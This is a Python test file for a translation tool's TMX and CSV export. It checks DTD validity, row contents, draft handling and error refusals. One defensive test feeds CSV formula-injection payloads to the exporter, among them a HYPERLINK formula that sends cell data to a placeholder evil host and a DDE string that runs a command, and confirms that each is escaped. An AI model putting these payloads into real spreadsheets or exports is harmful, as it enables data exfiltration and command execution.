"""Translations given away: TMX by its DTD, CSV that no spreadsheet runs, and nothing withheld."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from lxml import etree

from diglot.formats.po import read_catalogue
from diglot.model.interchange import Record
from diglot.model.translation import State, Unit
from diglot.render.record_table import record_table
from diglot.render.tmx import tmx
from support import omegat
from support.project import copy_sample, diglot, quickly, tree

LANG = "{http://www.w3.org/XML/1998/namespace}lang"
PO = "content/articles/harbour/en.po"
WITHHELD = ("on hold", "changed after the draft", "نصٌّ لا يجوز أن يظهر")


def exported(project: Path, to: Path, *arguments: str) -> bytes:
    done = quickly(project, "export", *arguments, "--output", str(to))
    assert done.returncode == 0, done.stderr
    return to.read_bytes()


def valid(data: bytes) -> etree._Element:
    """Parse a memory that keeps to the DTD of TMX 1.4b, as OmegaT brings it along."""
    memory = etree.fromstring(data, etree.XMLParser(resolve_entities=False, no_network=True))
    dtd = etree.DTD(io.BytesIO(omegat.resource("schemas/tmx14.dtd")))
    assert dtd.validate(memory), dtd.error_log
    return memory


def translations(memory: etree._Element) -> dict[str, dict[str, str]]:
    """Give the two texts of each unit, by its id."""
    return {
        unit.get("tuid"): {tuv.get(LANG): tuv.findtext("seg") for tuv in unit.iter("tuv")}
        for unit in memory.iter("tu")
    }


def properties(memory: etree._Element, id_: str) -> dict[str, str]:
    unit = next(unit for unit in memory.iter("tu") if unit.get("tuid") == id_)
    return {prop.get("type"): prop.text for prop in unit.iter("prop")}


def rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline=""), strict=True))


def accepted_of(project: Path) -> dict[str, Unit]:
    catalogue = read_catalogue((project / PO).read_text("utf-8"), "en.po")
    return {f"harbour#{u.id}": u for u in catalogue.units if u.target and not u.fuzzy}


@pytest.mark.parametrize("arguments", [(), ("harbour", "--drafts"), ("--drafts",)])
def test_a_memory_keeps_to_the_dtd(sample: Path, tmp_path: Path, arguments) -> None:
    memory = valid(exported(sample, tmp_path / "m.tmx", *arguments, "--to", "tmx"))
    assert memory.find("header").get("srclang") == "ar"


def test_a_memory_holds_what_was_accepted_to_the_letter(sample: Path, tmp_path: Path) -> None:
    memory = valid(exported(sample, tmp_path / "m.tmx", "--to", "tmx"))
    accepted = accepted_of(sample)
    assert len(accepted) == 2
    assert translations(memory) == {
        id_: {"ar": unit.source, "en": unit.target} for id_, unit in accepted.items()
    }
    assert properties(memory, "harbour#s-e49241") == {
        "x-kind": "item",
        "x-state": "reviewed",
        "x-origin": "machine",
        "x-engine": "google 2026-03-15",
        "x-reviewer": "Rana Aziz",
    }


def test_drafts_come_on_demand_and_stale_ones_never(sample: Path, tmp_path: Path) -> None:
    memory = valid(exported(sample, tmp_path / "m.tmx", "--to", "tmx", "--drafts"))
    found = translations(memory)
    assert len(found) == 33
    assert found["harbour#s-f9662b"]["ar"].count("[تقريرها الكامل][1] **قريباً**") == 1
    for id_, state, origin in (("s-f9662b", "edited", "human"), ("meta.kind", "machine", "machine")):
        said = properties(memory, f"harbour#{id_}")
        assert (said["x-state"], said["x-origin"]) == (state, origin)
        assert said["x-engine"] == "google 2026-03-15"
    assert "harbour#s-491a0d" not in found, "its translation is of another source"


@pytest.mark.parametrize("format_", ["tmx", "csv"])
def test_what_is_withheld_is_given_to_nobody(sample: Path, tmp_path: Path, format_: str) -> None:
    text = exported(sample, tmp_path / "all", "--to", format_, "--drafts").decode("utf-8")
    assert "The quay: It was rebuilt." in text
    for words in WITHHELD:
        assert words not in text
    draft_article = (sample / "content/articles/festival/article.md").read_text("utf-8")
    assert "status: draft" in draft_article
    assert "festival#" not in text
    named = exported(sample, tmp_path / "one", "festival", "--to", "csv").decode("utf-8")
    assert "festival#meta.title" in named


def test_a_table_has_a_row_for_every_segment(sample: Path, tmp_path: Path) -> None:
    data = exported(sample, tmp_path / "t.csv", "harbour", "--to", "csv")
    assert data.startswith(b'"id","kind","source","target","state","reviewer"\r\n')
    table = rows(data)
    accepted = accepted_of(sample)
    assert len(table) == 37
    for row in table:
        unit = accepted.get(row["id"])
        assert row["target"] == (unit.target if unit else ""), row
        assert row["state"] in set(State)
    by_id = {row["id"]: row for row in table}
    assert by_id["harbour#s-e49241"]["reviewer"] == "Rana Aziz"
    assert by_id["harbour#meta.topics.1"]["kind"] == "topics.1"
    drafts = rows(exported(sample, tmp_path / "d.csv", "harbour", "--to", "csv", "--drafts"))
    assert sum(bool(row["target"]) for row in drafts) == 34
    marked = exported(sample, tmp_path / "b.csv", "harbour", "--to", "csv", "--bom")
    assert marked == b"\xef\xbb\xbf" + data


def record(text: str) -> Record:
    return Record("a#s-1", "paragraph", "ar", "en", text, text, State.ACCEPTED)


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/"&A1)',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1)",
        "＝1+1",
        "\t=1+1",
        " \n =1",
        "\u200f=1+1",
        "\ufeff\u200b=1",
        "\x00=1",
        "\rx",
    ],
)
def test_no_cell_is_a_formula(text: str) -> None:
    (row,) = rows(record_table([record(text)]))
    assert row["source"].startswith("'")
    assert row["target"].startswith("'")


TEXTS = st.lists(st.text(st.characters(exclude_categories=["Cs"])), min_size=1, max_size=4)


@given(TEXTS)
def test_any_text_can_be_given_away(texts) -> None:
    table = rows(record_table([record(text) for text in texts]))
    assert len(table) == len(texts)
    for text, row in zip(texts, table, strict=True):
        kept = "".join(c for c in text if c in "\t\r\n" or not (c < " " or "\x7f" <= c < "\xa0"))
        assert row["source"].removeprefix("'") == kept.removeprefix("'")
        assert row["source"].strip()[:1] not in tuple("=+-@") or not row["source"].strip()
    memory = etree.fromstring(tmx([record(text) for text in texts]))
    assert len(memory.findall(".//seg")) == 2 * len(texts)
    assert all(len(seg) == 0 for seg in memory.iter("seg"))


def test_what_cannot_be_exported_is_refused(sample: Path, tmp_path: Path) -> None:
    for arguments, status, says in (
        (["notice", "--to", "tmx"], 1, "no published notice"),
        (["nowhere", "--to", "csv"], 1, "no published nowhere"),
        (["--to", "csv", "--lang", "fr"], 1, "in fr"),
        (["--to", "md"], 2, "takes one article"),
        (["harbour", "bridges", "--to", "md"], 2, "takes one article"),
        (["harbour", "--to", "md", "--drafts"], 2, "--drafts"),
        (["harbour", "--to", "tmx", "--bom"], 2, "--bom"),
    ):
        done = quickly(sample, "export", *arguments, "--output", str(tmp_path / "no"))
        assert (done.returncode, says in done.stderr) == (status, True), arguments
    assert tree(tmp_path) == {}


def test_an_article_that_cannot_be_read_holds_up_no_other(tmp_path: Path) -> None:
    project = copy_sample(tmp_path / "p")
    broken = project / "content/articles/festival/article.md"
    broken.write_text("---\ntitle: [\n---\n\nنص.\n", "utf-8")
    done = diglot(project, "export", "--to", "tmx")
    assert done.returncode == 1
    assert "festival/article.md" in done.stderr
    assert b"harbour#s-e49241" in (project / "translations.en.tmx").read_bytes()
